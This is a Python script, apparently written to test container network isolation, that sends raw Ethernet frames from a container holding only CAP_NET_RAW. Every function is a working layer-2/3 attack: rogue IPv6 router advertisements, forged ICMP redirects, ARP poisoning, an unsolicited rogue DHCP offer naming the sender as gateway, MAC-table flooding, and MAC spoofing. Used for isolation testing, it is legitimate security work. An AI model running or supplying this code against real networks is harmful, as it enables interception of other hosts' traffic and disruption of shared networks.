#!/usr/bin/env python3
"""neighbours.py ATTACK ARG...: what a hostile container can send on its bridge, with CAP_NET_RAW and nothing else."""
import socket
import struct
import sys
import time

link = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
link.bind(("eth0", 3))  # ETH_P_ALL
own = link.getsockname()[4]
everybody = b"\xff" * 6


def mac(text):
    return bytes.fromhex(text.replace(":", ""))


def checksum(data):
    data += b"\0" * (len(data) % 2)
    total = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def send(to, kind, payload, source=own):
    # more than once, and not all at once: neighbours take a moment
    for _ in range(3):
        link.send(to + source + struct.pack("!H", kind) + payload)
        time.sleep(0.02)


def ipv4(source, to, protocol, payload):
    head = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(payload), 1, 0, 64, protocol, 0,
                       socket.inet_aton(source), socket.inet_aton(to))
    return head[:10] + struct.pack("!H", checksum(head)) + head[12:] + payload


def advertisement():
    """I am a router, and this is your network (RFC 4861)."""
    source = socket.inet_pton(socket.AF_INET6, "fe80::bad")
    to = socket.inet_pton(socket.AF_INET6, "ff02::1")
    prefix = struct.pack("!BBBBIII16s", 3, 4, 64, 0xC0, 86400, 14400, 0, socket.inet_pton(socket.AF_INET6, "2001:db8:bad::"))
    body = struct.pack("!BBHBBHII", 134, 0, 0, 64, 0, 1800, 0, 0) + struct.pack("!BB6s", 1, 1, own) + prefix
    pseudo = source + to + struct.pack("!II", len(body), 58)
    body = body[:2] + struct.pack("!H", checksum(pseudo + body)) + body[4:]
    send(mac("33:33:00:00:00:01"), 0x86DD, struct.pack("!IHBB", 0x60000000, len(body), 58, 255) + source + to + body)


def redirect(gateway, victim, victim_mac, destination, me):
    """Says the gateway: to reach the destination, use me."""
    original = ipv4(victim, destination, 1, struct.pack("!BBHHH", 0, 0, 0xFFFF, 0, 0))  # for which no socket is asked
    body = struct.pack("!BBH4s", 5, 1, 0, socket.inet_aton(me)) + original
    body = body[:2] + struct.pack("!H", checksum(body)) + body[4:]
    send(mac(victim_mac), 0x0800, ipv4(gateway, victim, 1, body))


def arp(address, to):
    """The address is at my MAC address: as an answer, as a question, and to all."""
    for operation in 2, 1:
        for target in mac(to), everybody:
            send(target, 0x0806, struct.pack("!HHBBH6s4s6s4s", 1, 0x0800, 6, 4, operation, own, socket.inet_aton(address),
                                              target, socket.inet_aton(address)))


def ask(address, source, seconds):
    """Who has the address? Prints who answers."""
    link.settimeout(float(seconds))
    link.send(everybody + own + struct.pack("!HHHBBH6s4s6s4s", 0x0806, 1, 0x0800, 6, 4, 1, own, socket.inet_aton(source),
                                            b"", socket.inet_aton(address)))
    try:
        while True:
            frame = link.recv(1500)
            if frame[12:14] == b"\x08\x06" and frame[20:22] == b"\0\2" and frame[28:32] == socket.inet_aton(address):
                print(frame[22:28].hex(":"))
                break
    except socket.timeout:
        pass


def dhcp(me, offered):
    """Your address is the offered one, and I am your router: to all, unasked."""
    options = b"\x63\x82\x53\x63" + b"\x35\x01\x05" + b"\x36\x04" + socket.inet_aton(me) + b"\x33\x04\0\0\x0e\x10" + \
        b"\x01\x04\xff\xff\xff\0" + b"\x03\x04" + socket.inet_aton(me) + b"\xff"
    body = struct.pack("!BBBBIHH4s4s4s4s16s64s128s", 2, 1, 6, 0, 1, 0, 0x8000, b"", socket.inet_aton(offered),
                       socket.inet_aton(me), b"", own, b"", b"") + options
    send(everybody, 0x0800, ipv4(me, "255.255.255.255", 17, struct.pack("!HHHH", 67, 68, 8 + len(body), 0) + body))


def flood(count):
    """Frames from as many MAC addresses as a bridge could learn."""
    for i in range(int(count)):
        source = b"\x06\x66" + struct.pack("!I", i)
        link.send(everybody + source + b"\x88\xb5" + b"flood".ljust(46, b"\0"))


def steal(stolen):
    """A frame from somebody else's MAC address."""
    send(everybody, 0x88B5, b"stolen".ljust(46, b"\0"), mac(stolen))


globals()[sys.argv[1]](*sys.argv[2:])
